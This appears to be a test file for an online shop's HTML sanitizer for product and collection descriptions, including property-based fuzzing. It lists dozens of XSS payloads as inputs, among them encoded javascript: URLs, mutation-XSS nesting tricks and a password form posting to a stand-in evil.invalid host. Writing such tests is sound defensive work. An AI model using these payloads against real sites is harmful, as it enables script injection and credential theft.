import fc from 'fast-check';
import { isDescriptionHtml } from '@store/shared/contracts/description-html';
import { sanitizeCollectionHtml, sanitizeProductHtml } from './sanitize-html';
import { casesOf } from '../../testing/proof';

/** Elements and attributes that the output may contain, as a browser parses them. */
const productElements = new Set(
  'a b blockquote br caption code dd div dl dt em figcaption figure h2 h3 h4 h5 h6 hr i img li ol p pre s small span strong sub sup table tbody td tfoot th thead tr u ul'.split(
    ' ',
  ),
);
const collectionElements = new Set('a b br em h2 h3 h4 i li ol p strong ul'.split(' '));
const allowedAttributes = new Set('href title src alt width height colspan rowspan scope'.split(' '));

function inBrowser(html: string) {
  const root = document.createElement('div');
  root.innerHTML = html;
  return root;
}

function expectHarmless(html: string, elements: ReadonlySet<string>) {
  // The page's Trusted Types policy lets it pass.
  expect(isDescriptionHtml(html)).toBe(true);
  for (const element of inBrowser(html).querySelectorAll('*')) {
    expect(elements).toContain(element.localName);
    for (const { name, value } of element.attributes) {
      expect(allowedAttributes).toContain(name);
      if (name === 'href' || name === 'src') {
        const url = new URL(value, 'https://shop.invalid/');
        expect(['http:', 'https:', 'mailto:', 'tel:', 'ftp:']).toContain(url.protocol);
      }
    }
  }
}

/** Whether a parser that meets the HTML inside an element of a page finds the element's own end tag. */
function expectContained(html: string) {
  const root = inBrowser(`<section><header>${html}</header><footer></footer></section>`);
  expect(root.querySelector('section > footer')).not.toBeNull();
  expect(root.querySelector('section')?.children).toHaveLength(2);
}

it('keeps the markup of a product’s description', () => {
  const html =
    '<h3>Care</h3><p>Soft <strong>fleece</strong>, <em>320 g</em>.<br></p><ul><li>Wash cold</li></ul>' +
    '<table><tbody><tr><th scope="row">Fit</th><td colspan="2">Regular</td></tr></tbody></table>' +
    '<a href="https://shop.invalid/pages/help-center" title="Help">Help</a><img src="/a.webp" alt="Front" width="4" height="5">';
  expect(inBrowser(sanitizeProductHtml(html)).innerHTML).toBe(html);
});

it.each([
  ['<p>Warm <strong>fleece</strong></p>', '<p>Warm <strong>fleece</strong></p>'],
  ['<P CLASS="a" onclick=\'x()\'>Text</P>', '<p>Text</p>'],
  ['<a href="/pages/help-center" class="x">Help</a>', '<a href="/pages/help-center">Help</a>'],
  ['Fish &amp; chips &lt;b&gt;', 'Fish &amp; chips &lt;b&gt;'],
  ['<style>p{}</style><p>After', '<p>After</p>'],
  ['<img src="/a.webp">Text', 'Text'],
  ['<table><tr><td>Cell</td></tr></table>', 'Cell'],
  ['<p title="a>b">Text</p>', '<p>Text</p>'],
  ['<ul><li>One<li>Two</ul>Rest', '<ul><li>One<li>Two</li></li></ul>Rest'],
  ['</p></div>Text', 'Text'],
  ['<strong>Open', '<strong>Open</strong>'],
  ['<script><p></script>Text', 'Text'],
  ['<!-- <p>no</p> -->Yes', 'Yes'],
  ['1 < 2', '1 &lt; 2'],
])('sanitizes %p of a collection’s description to %p', (html, safe) => {
  expect(sanitizeCollectionHtml(html)).toBe(safe);
});

it.each([
  '</div></section>Text',
  '<b><p>Text',
  '<table><tr><td>Cell',
  '<blockquote><ul><li>One</blockquote>Two',
])('does not affect the page around %p', (html) => {
  expectContained(sanitizeProductHtml(html));
});

it.each([
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.invalid></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"/>',
  '<svg/onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" java\nscript:alert(1)">x</a>',
  '<a href="java&#115;cript:alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<form action="https://evil.invalid"><input name=password><button>Go</button></form>',
  '<base href="https://evil.invalid/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.invalid">',
  '<link rel="stylesheet" href="https://evil.invalid/x.css">',
  '<style>body{display:none}</style>',
  '<template><script>alert(1)</script></template>',
  '<textarea></textarea><script>alert(1)</script>',
  '<title></title><img src=x onerror=alert(1)>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<a href="https://x" onclick="alert(1)" style="position:fixed">x</a>',
  '<div id="kith-page">{}</div>',
  '<img src="//evil.invalid/track.gif">',
  '<img src="/\\evil.invalid/track.gif">',
  '<<script>alert(1)//<</script>',
  '<p title="a" <img src=x onerror=alert(1)>>',
])('makes %s harmless', (hostile) => {
  const safe = sanitizeProductHtml(hostile);
  expectHarmless(safe, productElements);
  expect(inBrowser(safe).querySelector('[src*="evil"]')).toBeNull();
  expectHarmless(sanitizeCollectionHtml(hostile), collectionElements);
});

it('removes every dangerous construct, for any combination of pieces', () => {
  const pieces = [
    ...'< > / = x ` " <p </p> <a <img <svg <b> <li> </div> </header> <table><td> </table>'.split(' '),
    ...'<script> </script> <style> <!-- --> &#106; &colon; javascript: data: alert(1)'.split(' '),
    "'",
    ' ',
    ' href=',
    ' src=',
    ' onerror=',
    '\n',
    '\t',
    '\u0000',
  ];
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 20 }), (taken) => {
      const product = sanitizeProductHtml(taken.join(''));
      const collection = sanitizeCollectionHtml(taken.join(''));
      expectHarmless(product, productElements);
      expectHarmless(collection, collectionElements);
      expectContained(product);
      expectContained(collection);
    }),
    { numRuns: casesOf(600) },
  );
});
